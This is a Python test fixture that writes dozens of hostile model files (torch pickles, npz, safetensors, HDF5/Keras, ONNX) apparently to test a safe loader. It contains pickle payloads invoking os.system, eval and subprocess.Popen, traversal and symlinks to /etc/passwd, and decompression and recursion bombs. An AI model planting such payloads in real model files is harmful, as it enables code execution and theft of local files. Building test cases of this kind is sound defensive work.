"""Files made to do harm: ``python tests/hostile_files.py FOLDER`` writes one for each trick.

Owns the tricks. What must become of them stands in ``test_hostile_files.py``. Code in them would
make a file named ``exploded`` in the current folder.
"""

import io
import json
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

Trick = Callable[[Path], bytes]
TRICKS: dict[str, Trick] = {}
COMMAND = b"touch exploded"
MB = 1_000_000


def trick(function: Trick) -> Trick:
    TRICKS[function.__name__.replace("_", "-")] = function
    return function


def of(name: str, content: Callable[[], bytes]) -> None:
    TRICKS[name] = lambda folder: content()


# --- pickles, in torch's archive and in the form before it ---


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def number(value: int) -> bytes:
    size = value.bit_length() // 8 + 1
    return b"\x8a" + bytes([size]) + value.to_bytes(size, "little", signed=True)


def name(path: str) -> bytes:
    module, _, last = path.rpartition(".")
    return b"c" + module.encode() + b"\n" + last.encode() + b"\n"


def numbers(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def tensor(
    shape: tuple[int, ...] = (2, 2),
    strides: tuple[int, ...] = (2, 1),
    offset: int = 0,
    key: str = "0",
    count: int = 4,
    kind: str = "torch.FloatStorage",
) -> bytes:
    storage = b"(" + text("storage") + name(kind) + text(key) + text("cpu") + number(count) + b"tQ"
    rest = number(offset) + numbers(shape) + numbers(strides) + b"\x89N"
    return name("torch._utils._rebuild_tensor_v2") + b"(" + storage + rest + b"tR"


def state(*values: bytes) -> bytes:
    items = b"".join(text(f"x{i}") + value for i, value in enumerate(values))
    return b"\x80\x02}(" + items + b"u."


def archive(pickle: bytes, data: bytes = bytes(16), method: int = 0) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped:
        zipped.writestr("m/data.pkl", pickle)
        zipped.writestr("m/data/0", data, method)
        zipped.writestr("m/version", "3\n")
    return file.getvalue()


def legacy(pickle: bytes, keys: bytes = b"", data: bytes = b"") -> bytes:
    start = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}."
    keys = keys or b"\x80\x02]" + text("0") + b"a."
    return start + pickle + keys + (data or struct.pack("<q", 4) + bytes(16))


def call(path: str, *arguments: bytes) -> bytes:
    return name(path) + b"(" + b"".join(arguments) + b"tR"


SYSTEM = call("os.system", text(COMMAND.decode()))
LAUGHS = b"](" + b"N" * 9 + b"e" + b"".join(
    b"q" + bytes([i]) + b"0](" + (b"h" + bytes([i])) * 9 + b"e" for i in range(30)
)  # fmt: skip
STACK_GLOBAL = text("posix") + text("system") + b"\x93" + text(COMMAND.decode()) + b"\x85R"
GETATTR = call("builtins.getattr", call("builtins.__import__", text("os")), text("system"))

PICKLES = {
    "os-system": state(SYSTEM),
    "os-system-beside-a-tensor": state(tensor(), SYSTEM),
    "eval": state(call("builtins.eval", text("__import__('os').system('touch exploded')"))),
    "getattr-chain": state(GETATTR + text(COMMAND.decode()) + b"\x85R"),
    "stack-global": state(STACK_GLOBAL),
    "run-code": state(call("runpy._run_code", text("import os"), b"}")),
    "torch-hub": state(call("torch.hub.load", text("evil/repository"), text("model"))),
    "numpy-load": state(call("numpy.load", text("/etc/passwd"))),
    "name-of-a-function": state(name("torch.load"), tensor()),
    "name-alone": state(name("os.system")),
    "opcode-inst": state(b"(" + text(COMMAND.decode()) + b"ios\nsystem\n"),
    "opcode-obj": state(b"(" + name("os.system") + text(COMMAND.decode()) + b"o"),
    "opcode-ext": state(b"\x82\x01"),
    "new-object-with-arguments": state(
        name("subprocess.Popen") + text(COMMAND.decode()) + b"\x85\x81"
    ),
    "call-of-a-stub": state(name("__torch__.M") + b")\x81" + text("x") + b"\x85R"),
    "call-of-a-script-class": state(call("__torch__.os.system", text(COMMAND.decode()))),
    "state-of-a-dict": state(b"}" + text("x") + b"b"),
    "state-of-a-function": state(name("collections.OrderedDict") + b"}b"),
    "object-that-is-no-module": state(name("evil.Config") + b")\x81}b", tensor()),
    "offset-negative": state(tensor(offset=-4)),
    "offset-beyond": state(tensor(offset=1)),
    "strides-negative": state(tensor(strides=(-2, 1))),
    "strides-beyond": state(tensor(strides=(3, 1))),
    "strides-missing": state(tensor(strides=(2,))),
    "shape-of-texts": state(tensor().replace(numbers((2, 2)), b"(" + text("2") + text("2") + b"t")),
    "shape-repeating-one-number": state(tensor(shape=(10**12,), strides=(0,))),
    "shape-overflowing": state(tensor(shape=(2**63, 2**63), strides=(2**63, 1))),
    "shape-empty-but-huge": state(tensor(shape=(0, 2**62), strides=(2**62, 1))),
    "shape-of-many-axes": state(tensor(shape=(1,) * 1000, strides=(0,) * 1000)),
    "storage-beyond": state(tensor(count=5)),
    "storage-negative": state(tensor(count=-1)),
    "storage-huge": state(tensor(count=2**62)),
    "storage-missing": state(tensor(key="1")),
    "storage-elsewhere": state(tensor(key="../../../../etc/passwd")),
    "storage-of-two-types": state(tensor(), tensor(kind="torch.IntStorage")),
    "storage-quantised": state(tensor(kind="torch.QInt8Storage", count=16)),
    "key-that-is-a-deep-tuple": b"\x80\x02})" + b"\x85" * 400_000 + b"Ns.",
    "lists-in-lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
    "list-in-itself": b"\x80\x02]q\x00h\x00a.",
    "billion-laughs": b"\x80\x02" + LAUGHS + b".",
    "opcode-flood": b"\x80\x02" + b"N0" * 3 * MB + b"N.",
    "text-huge": b"\x80\x02X\xff\xff\xff\xff.",
    "texts-many": b"\x80\x02(" + text("x" * 1000) * 6000 + b"l.",
    "names-long": b"\x80\x02}q\x00"
    + text("x" * 3 * MB)
    + b"q\x01]("
    + b"N" * 9
    + b"es"
    + b"]("
    + (b"}h\x01Ns" * 50_000)
    + b"e"
    + b"\x86.",
    "number-huge": b"\x80\x02\x8b\xff\xff\xff\x7f.",
    "stack-empty": b"\x80\x02R.",
    "memo-empty": b"\x80\x02h\x07.",
}
for _name, _pickle in PICKLES.items():
    of(f"torch-{_name}", lambda pickle=_pickle: archive(pickle))

of("torch-compressed-storage", lambda: archive(state(tensor()), method=zipfile.ZIP_DEFLATED))
of("torch-pickle-bomb", lambda: squeezed("m/data.pkl", b"\x80\x02" + b"N0" * 20 * MB + b"N."))
of("legacy-os-system", lambda: legacy(state(SYSTEM)))
of("legacy-os-system-first", lambda: legacy(state(tensor())).replace(b"\x80\x02}.", b"\x80\x02" + SYSTEM + b".", 1))  # fmt: skip  # noqa: E501
of("legacy-count-huge", lambda: legacy(state(tensor(count=2**61)), data=struct.pack("<q", 2**61)))
of("legacy-count-forged", lambda: legacy(state(tensor()), data=struct.pack("<q", 5) + bytes(20)))
of("legacy-cut", lambda: legacy(state(tensor()))[:-1])
of("legacy-key-twice", lambda: legacy(state(tensor()), b"\x80\x02](" + text("0") * 2 + b"e."))


# --- archives ---


def squeezed(member: str, content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr(member, content)
    return file.getvalue()


@trick
def torch_duplicate_names(folder: Path) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped, warnings.catch_warnings(action="ignore"):
        zipped.writestr("m/data.pkl", state(tensor()))
        zipped.writestr("m/data.pkl", state(SYSTEM))
        zipped.writestr("m/data/0", bytes(16))
    return file.getvalue()


@trick
def torch_two_pickles(folder: Path) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped:
        zipped.writestr("m/data.pkl", state(tensor()))
        zipped.writestr("n/data.pkl", state(SYSTEM))
        zipped.writestr("m/data/0", bytes(16))
    return file.getvalue()


@trick
def torch_overlapping_storages(folder: Path) -> bytes:
    """Two entries of the directory point to one member."""
    content = archive(state(tensor(), tensor(key="1")))
    start = content.index(b"PK\1\2")
    entry = content.index(b"PK\1\2", start + 1)
    end = content.index(b"PK\1\2", entry + 1)
    twin = content[entry:end].replace(b"m/data/0", b"m/data/1")
    directory = content[start:end] + twin
    tail = b"PK\5\6" + struct.pack("<4H2IH", 0, 0, 3, 3, len(directory), start, 0)
    return content[:start] + directory + tail


of("npz-bomb", lambda: squeezed("a.npy", bytes(60 * MB)))
of("npz-directory-huge", lambda: b"PK\3\4" + bytes(2 * MB) + b"PK\5\6" + struct.pack("<4H2IH", 0, 0, 1, 1, 2 * MB, 4, 0))  # fmt: skip  # noqa: E501


def npy(header: str, data: bytes = bytes(8)) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped:
        content = header.encode()
        version = b"\x93NUMPY\2\0" + struct.pack("<I", len(content))
        zipped.writestr("a.npy", version + content + data)
    return file.getvalue()


SHAPE = "{'descr': '<f4', 'fortran_order': False, 'shape': %s}\n"
of("npz-shape-huge", lambda: npy(SHAPE % "(10**15,)".replace("10**15", str(10**15))))
of("npz-header-code", lambda: npy(SHAPE % "__import__('os').system('touch exploded')"))
of("npz-header-deep", lambda: npy(SHAPE % ("(" * 5000 + ")" * 5000)))
of("npz-header-huge", lambda: npy(SHAPE % ("(2,)" + " " * 3 * MB)))


# --- safetensors ---


def tensors(header: str, data: bytes = bytes(8)) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + data


ONE = '{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
of("safetensors-header-huge", lambda: struct.pack("<Q", 2**40) + b"{}")
of("safetensors-header-long", lambda: tensors("{" + " " * 2 * MB + "}"))
of("safetensors-header-deep", lambda: tensors('{"a":' + "[" * 500_000))
of("safetensors-duplicate-names", lambda: tensors(f'{{"a":{ONE},"a":{ONE}}}'))
of("safetensors-overlap", lambda: tensors(f'{{"a":{ONE},"b":{ONE}}}'))
of("safetensors-beyond", lambda: tensors(f'{{"a":{ONE}}}', bytes(4)))
of("safetensors-shape", lambda: tensors(f'{{"a":{ONE.replace("[2]", f"[{2**62},{2**62}]")}}}'))


# --- HDF5 and Keras ---

CONFIG = json.dumps({"class_name": "Sequential", "config": {"layers": []}})


def hdf5(fill: Callable[..., object], config: str = CONFIG) -> bytes:
    import h5py

    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file.attrs["model_config"] = config
        fill(file.create_group("model_weights"), h5py)
    return content.getvalue()


def ordinary(group: object, h5py: object) -> None:
    group["dense/kernel:0"] = np.ones((20, 20), "f4")  # type: ignore[index]


of("hdf5-cut", lambda: hdf5(ordinary)[:-100])
of("hdf5-cut-in-the-middle", lambda: hdf5(ordinary)[:1500])
of("hdf5-magic-alone", lambda: b"\x89HDF\r\n\x1a\n")


@trick
def hdf5_heap_forged(folder: Path) -> bytes:
    """The free space after the texts has no size: the HDF5 library would never return."""
    content = hdf5(ordinary)
    text_at = content.index(b"GCOL") + 32
    free = text_at + (len(CONFIG) + 7) // 8 * 8
    return content[: free + 8] + bytes(8) + content[free + 16 :]


@trick
def onnx_text_that_is_none(folder: Path) -> bytes:
    from onnx import helper

    node = helper.make_node("LSTM", ["x", "w", "r"], ["y"], "NAMED")
    graph = helper.make_graph([node], "g", [], [])
    return helper.make_model(graph, ir_version=9).SerializeToString().replace(b"NAMED", b"\xff" * 5)


of("hdf5-huge-dataset", lambda: hdf5(lambda g, h: g.create_dataset("x", (10**11,), "f4")))
of("hdf5-huge-chunks", lambda: hdf5(lambda g, h: g.create_dataset("x", (10**9,), "f4", chunks=(1000,))))  # fmt: skip  # noqa: E501
of("hdf5-bomb", lambda: hdf5(lambda g, h: g.create_dataset("x", data=np.zeros(15 * MB, "f4"), compression="gzip")))  # fmt: skip  # noqa: E501
of("hdf5-external-link", lambda: hdf5(lambda g, h: g.__setitem__("x", h.ExternalLink("/etc/passwd", "/"))))  # fmt: skip  # noqa: E501
of("hdf5-soft-link-loop", lambda: hdf5(lambda g, h: g.__setitem__("x", h.SoftLink("/model_weights/x"))))  # fmt: skip  # noqa: E501
of("hdf5-group-in-itself", lambda: hdf5(lambda g, h: g.__setitem__("x", g)))
of("hdf5-external-storage", lambda: hdf5(lambda g, h: g.create_dataset("x", (10,), "u1", external=[("/etc/passwd", 0, 10)])))  # fmt: skip  # noqa: E501
of("keras-config-deep", lambda: hdf5(ordinary, "[" * 50_000))
of("keras-layers-deep", lambda: hdf5(ordinary, '{"config":{"layers":[' * 300 + "]}}" * 300))


# --- ONNX ---


def onnx_model(location: str = "", **keys: str) -> bytes:
    """One initialiser, in another file if there is a location for it."""
    from onnx import StringStringEntryProto, TensorProto, helper

    array = TensorProto(name="x", data_type=1, dims=[4])
    if location:
        array.data_location = 1
        for key, value in {"location": location, **keys}.items():
            array.external_data.append(StringStringEntryProto(key=key, value=value))
    else:
        array.raw_data = bytes(16)
    graph = helper.make_graph([], "g", [], [], [array])
    return helper.make_model(graph, ir_version=9).SerializeToString()


@trick
def onnx_external_link(folder: Path) -> bytes:
    link = folder / "link"
    link.unlink(missing_ok=True)
    link.symlink_to("/etc/passwd")
    return onnx_model("link", length="16")


@trick
def onnx_external_beyond(folder: Path) -> bytes:
    (folder / "beside").write_bytes(bytes(16))
    return onnx_model("beside", offset="8", length="16")


@trick
def onnx_external_negative(folder: Path) -> bytes:
    (folder / "beside").write_bytes(bytes(16))
    return onnx_model("beside", offset="-8", length="16")


@trick
def onnx_graphs_in_graphs(folder: Path) -> bytes:
    """Bodies of attributes, by their bytes: protobuf's own limit is what is tried."""
    body = b""
    for _ in range(3000):
        attribute = b"\x32" + length_of(body) + body
        node = b"\x2a" + length_of(attribute) + attribute
        body = b"\x0a" + length_of(node) + node
    return b"\x08\x09\x3a" + length_of(body) + body


@trick
def onnx_doubling_constants(folder: Path) -> bytes:
    from onnx import helper, numpy_helper

    one = numpy_helper.from_array(np.zeros(1000, "f4"), "x0")
    nodes = [helper.make_node("Concat", [f"x{i}"] * 2, [f"x{i + 1}"], axis=0) for i in range(60)]
    graph = helper.make_graph(nodes, "g", [], [], [one])
    return helper.make_model(graph, ir_version=9).SerializeToString()


def length_of(content: bytes) -> bytes:
    size, result = len(content), b""
    while size > 127:
        result += bytes([size & 127 | 128])
        size >>= 7
    return result + bytes([size])


of("onnx-external-above", lambda: onnx_model("../../../../etc/passwd", length="16"))
of("onnx-external-absolute", lambda: onnx_model("/etc/passwd", length="16"))
of("onnx-external-above-in-the-middle", lambda: onnx_model("a/../../../etc/passwd"))
of("onnx-external-device", lambda: onnx_model("/dev/zero", length="16"))
of("onnx-cut", lambda: onnx_model()[:-3])
of("onnx-shape-huge", lambda: onnx_model().replace(b"\x08\x04", b"\x08\x7f"))


def write(folder: Path) -> list[Path]:
    """Write them all."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for title, content in TRICKS.items():
        paths.append(folder / title)
        paths[-1].write_bytes(content(folder))
    return paths


if __name__ == "__main__":
    # Those of the other module join the tricks of this one as it is imported, not as it is run.
    import hostile_bombs  # noqa: F401
    import hostile_files

    print(f"{len(hostile_files.write(Path(sys.argv[1])))} files")
